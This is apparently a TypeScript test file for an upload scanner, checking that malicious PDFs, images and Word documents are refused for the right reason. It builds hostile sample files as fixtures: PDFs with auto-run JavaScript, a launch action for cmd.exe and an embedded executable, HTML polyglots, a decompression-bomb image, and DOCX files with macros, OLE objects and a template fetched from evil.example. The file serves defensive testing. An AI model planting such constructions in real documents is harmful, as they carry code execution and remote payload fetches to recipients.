import sharp from 'sharp';
import { fileContentProblem } from '../src/modules/security/file-content.js';
import { MAX_DOCX_INFLATED } from '../src/modules/security/file-content.js';
import { ACTIVE_PDFS, JPEG_8, PASSIVE_PDFS, PDF_HTML_POLYGLOT, PNG_8, REMOTE_DOCX, doc, docx, docxTypes, pdf } from './file-support.js';

/** Why each file is refused (the upload suites check the answers; this checks the reasons). */
const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

test('PDFs: parsed by pdf.js; active content and polyglots refused, each for its reason', async () => {
  const cases: [string, Buffer, string | null][] = [
    ['clean', pdf(), null],
    ['a web link', pdf({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://www.example.com/) >> >>'] }), null],
    ['white space after the end', pdf({ trailing: '\n\n  \n' }), null],
    ['HTML that starts with %PDF', PDF_HTML_POLYGLOT, 'active-content'],
    ['HTML after the end', pdf({ trailing: '<html><script>alert(1)</script></html>' }), 'active-content'],
    ['other bytes after the end', pdf({ trailing: 'PK\u0003\u0004 a zip' }), 'unreadable'],
    ['JavaScript on open', pdf({ catalog: '/OpenAction 4 0 R', extra: [JS] }), 'active-content'],
    ['JavaScript in the name tree', pdf({ catalog: '/Names << /JavaScript 4 0 R >>', extra: ['<< /Names [(a) 5 0 R] >>', JS] }), 'active-content'],
    ['JavaScript on a page', pdf({ page: '/AA << /O 4 0 R >>', extra: [JS] }), 'active-content'],
    ['an embedded file', pdf({ catalog: '/Names << /EmbeddedFiles 4 0 R >>', extra: ['<< /Names [(x.exe) 5 0 R] >>', '<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }), 'active-content'],
    ['a file attachment annotation', pdf({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>', '<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] }), 'active-content'],
    ['a launch link', pdf({ page: '/Annots [4 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Launch /F (cmd.exe) >> >>'] }), 'active-content'],
    ['a header and filler', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(300, 0x41), Buffer.from('\n%%EOF\n')]), 'unreadable'],
    ...ACTIVE_PDFS.map(([label, bytes]): [string, Buffer, string | null] => [label, bytes, 'active-content']),
    ...PASSIVE_PDFS.map(([label, bytes]): [string, Buffer, string | null] => [label, bytes, null]),
  ];
  const got: [string, string | null][] = [];
  for (const [label, bytes] of cases) got.push([label, await fileContentProblem(bytes, 'pdf')]);
  expect(got).toEqual(cases.map(([label, , want]) => [label, want]));
});

test('images: decoded by sharp; broken, mislabelled and oversized ones refused', async () => {
  const bomb = await sharp({ create: { width: 7200, height: 7200, channels: 3, background: '#000' } }).png({ compressionLevel: 9 }).toBuffer();
  expect(await fileContentProblem(PNG_8, 'png')).toBeNull();
  expect(await fileContentProblem(JPEG_8, 'jpeg')).toBeNull();
  expect(await fileContentProblem(Buffer.concat([PNG_8.subarray(0, 8), Buffer.alloc(200, 1)]), 'png')).toBe('unreadable');
  expect(await fileContentProblem(JPEG_8.subarray(0, JPEG_8.length - 60), 'jpeg')).toBe('unreadable');
  expect(await fileContentProblem(PNG_8.subarray(0, PNG_8.length - 20), 'png')).toBe('unreadable');
  expect(await fileContentProblem(JPEG_8, 'png')).toBe('unreadable');
  expect(await fileContentProblem(bomb, 'png')).toBe('unreadable');
});

test('Word documents: read as packages and compound files; macros, OLE objects, remote templates and zip bombs refused', async () => {
  const remote = (type: string) =>
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
  const docxCases: [string, Buffer, string | null][] = [
    ['clean', docx(), null],
    ['a web link', docx({ 'word/_rels/document.xml.rels': remote('hyperlink') }), null],
    ['a zip without a document', docx({ 'word/document.xml': null, 'notes.txt': 'hello' }), 'unreadable'],
    ['a zip without content types', docx({ '[Content_Types].xml': null }), 'unreadable'],
    ['a truncated package', docx().subarray(0, 200), 'unreadable'],
    ['macros', docx({ 'word/vbaProject.bin': Buffer.alloc(64, 7) }), 'active-content'],
    ['a macro-enabled content type', docx({ '[Content_Types].xml': docxTypes('<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>') }), 'active-content'],
    ['an embedded OLE object', docx({ 'word/embeddings/oleObject1.bin': Buffer.alloc(64, 7) }), 'active-content'],
    ['an ActiveX control', docx({ 'word/activeX/activeX1.xml': '<ax/>' }), 'active-content'],
    ['a template fetched from outside', docx({ 'word/_rels/settings.xml.rels': remote('attachedTemplate') }), 'active-content'],
    ['a zip bomb', docx({ 'word/media/filler.txt': Buffer.alloc(MAX_DOCX_INFLATED + 1, 0x20) }), 'unreadable'],
    ...REMOTE_DOCX,
  ];
  const docCases: [string, Buffer, string | null][] = [
    ['clean', doc(), null],
    ['a compound file without a Word stream', doc(['/Workbook'], { word: false }), 'unreadable'],
    ['macros', doc(['/Macros/VBA/dir']), 'active-content'],
    ['an OLE package', doc(['/ObjectPool/_1234/\u0001Ole10Native']), 'active-content'],
    ['a truncated file', doc().subarray(0, 700), 'unreadable'],
  ];
  const got: [string, string | null][] = [];
  for (const [label, bytes] of docxCases) got.push([`docx: ${label}`, await fileContentProblem(bytes, 'docx')]);
  for (const [label, bytes] of docCases) got.push([`doc: ${label}`, await fileContentProblem(bytes, 'doc')]);
  expect(got).toEqual([...docxCases.map(([l, , w]) => [`docx: ${l}`, w]), ...docCases.map(([l, , w]) => [`doc: ${l}`, w])]);
});
